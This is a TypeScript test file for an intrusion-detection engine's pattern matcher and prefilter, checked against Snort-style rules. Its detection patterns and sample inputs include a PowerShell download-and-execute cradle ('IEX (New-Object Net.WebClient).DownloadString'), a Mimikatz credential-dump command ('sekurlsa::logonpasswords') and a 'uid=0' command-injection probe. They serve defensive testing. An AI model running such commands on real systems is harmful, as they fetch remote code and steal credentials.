import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AhoCorasick, type AcPattern } from '../../../../src/engine/detect/match/aho-corasick.js';
import { FewPatterns, MAX_PASSES, planFewPatterns } from '../../../../src/engine/detect/match/few-patterns.js';
import { buildPrefilter } from '../../../../src/engine/detect/match/prefilter.js';
import { parseRules } from '../../../../src/engine/detect/rules/parser.js';

const bytes = (s: string): Uint8Array => Buffer.from(s, 'latin1');

function rng(seed: number): () => number {
  let x = seed >>> 0;
  return () => { x = (x * 1664525 + 1013904223) >>> 0; return x / 2 ** 32; };
}

function found(scanner: { scan(b: Uint8Array, on: (p: number) => void): void }, input: Uint8Array): number[] {
  const got: number[] = [];
  scanner.scan(input, (p) => got.push(p));
  return got.sort((a, b) => a - b);
}

test('the bundled stream patterns: nocase ones through a rare anchor byte, case-sensitive ones whole, within the pass budget', () => {
  const pats: AcPattern[] = [
    { bytes: bytes('net.webclient'), nocase: true }, { bytes: bytes('powershell'), nocase: true },
    { bytes: bytes('downloadstring'), nocase: true }, { bytes: bytes('uid='), nocase: false },
    { bytes: bytes('sekurlsa::'), nocase: true }, { bytes: bytes('EICAR-STANDARD-ANTIVIRUS-TEST-FILE'), nocase: false },
  ];
  const plan = planFewPatterns(pats)!;
  assert.ok(plan !== undefined);
  assert.deepEqual(plan.whole, [3, 5]);
  // 'powershell' and 'downloadstring' share their anchor ('w', both cases).
  assert.deepEqual([...plan.anchors.keys()].sort(), ['.', ':', 'w'].map((c) => c.charCodeAt(0)).sort());
  const few = new FewPatterns(pats, plan);
  const text = 'x'.repeat(600) + 'IEX (New-Object Net.WebClient).DownloadString("http://a") | PowerShell -enc; uid=0(root) gid=0';
  assert.deepEqual(found(few, bytes(text)), [0, 1, 2, 3]);
  // Case rules: 'UID=' is not 'uid='; 'SEKURLSA::' is 'sekurlsa::' (nocase).
  assert.deepEqual(found(few, bytes('UID=1 SEKURLSA::logonpasswords eicar-standard-antivirus-test-file')), [4]);
  // A pattern cut by the buffer's start or end is not found; an anchor at offset 0 is.
  assert.deepEqual(found(few, bytes(':: net.webclien')), []);
  assert.deepEqual(found(few, bytes('.webclient')), []);
  assert.deepEqual(found(few, bytes('sekurlsa::')), [4]);
});

test('refuses pattern sets that need more than MAX_PASSES native passes, and empty patterns', () => {
  const letters = 'abcdefghij'.split('').map((c) => ({ bytes: bytes(c.repeat(3)), nocase: true }));
  assert.equal(planFewPatterns(letters.slice(0, 4)), undefined, '4 letters x 2 cases > budget');
  assert.ok(planFewPatterns(letters.slice(0, 3)) !== undefined, '3 letters x 2 cases = budget');
  assert.ok(MAX_PASSES >= 2 && planFewPatterns(letters.slice(0, 1)) !== undefined);
  assert.equal(planFewPatterns([{ bytes: bytes(''), nocase: false }]), undefined);
  assert.equal(planFewPatterns([]), undefined);
});

test('agrees with the Aho-Corasick automaton on random patterns and inputs, reporting each pattern once', () => {
  const rand = rng(11);
  const alphabet = 'aAbB.:=-\x00\xffwW';
  const word = (len: number): string => Array.from({ length: len }, () => alphabet[Math.floor(rand() * alphabet.length)]).join('');
  let planned = 0;
  for (let round = 0; round < 300; round++) {
    const pats = Array.from({ length: 1 + Math.floor(rand() * 5) }, () => {
      const nocase = rand() < 0.5;
      const w = word(1 + Math.floor(rand() * 5));
      return { bytes: bytes(nocase ? w.toLowerCase() : w), nocase };
    });
    const plan = planFewPatterns(pats);
    if (plan === undefined) continue;
    planned++;
    const few = new FewPatterns(pats, plan);
    const ac = new AhoCorasick(pats);
    for (let k = 0; k < 3; k++) {
      const input = bytes(word(Math.floor(rand() * 700)));
      const got: number[] = [];
      few.scan(input, (p) => got.push(p));
      assert.equal(new Set(got).size, got.length, 'each pattern once');
      assert.deepEqual(got.sort((a, b) => a - b), found(ac, input), `round ${round}`);
    }
  }
  assert.ok(planned > 100, `${planned} rounds planned`);
});

test('the prefilter gives the same candidates for long buffers (native search) as for short ones (automaton)', () => {
  const { rules } = parseRules([
    'alert tcp any any -> any any (msg:"a"; content:"Net.WebClient"; nocase; sid:1;)',
    'alert tcp any any -> any any (msg:"b"; content:"uid="; sid:2;)',
    'alert tcp any any -> any any (msg:"c"; content:"uid="; sid:3;)',
    'alert tcp any any -> any any (msg:"d"; dsize:>5; sid:4;)',
  ].join('\n'), { file: 't' });
  const pf = buildPrefilter(rules, 'payload');
  assert.deepEqual(pf.unconditional, [3]);
  const cands = (buf: Uint8Array): number[] => {
    const got = new Set<number>();
    pf.scan(buf, (r) => got.add(r));
    return [...got].sort();
  };
  const payload = 'GET /x?cmd=uid=0 HTTP/1.1\r\nUser-Agent: NET.WEBCLIENT\r\n';
  assert.deepEqual(cands(bytes(payload)), [0, 1, 2]);
  assert.deepEqual(cands(bytes('z'.repeat(4096) + payload)), [0, 1, 2]);
  assert.deepEqual(cands(new Uint8Array(bytes('z'.repeat(4096) + payload))), [0, 1, 2], 'a plain Uint8Array, not a Buffer');
  assert.deepEqual(cands(bytes('z'.repeat(4096))), []);
});
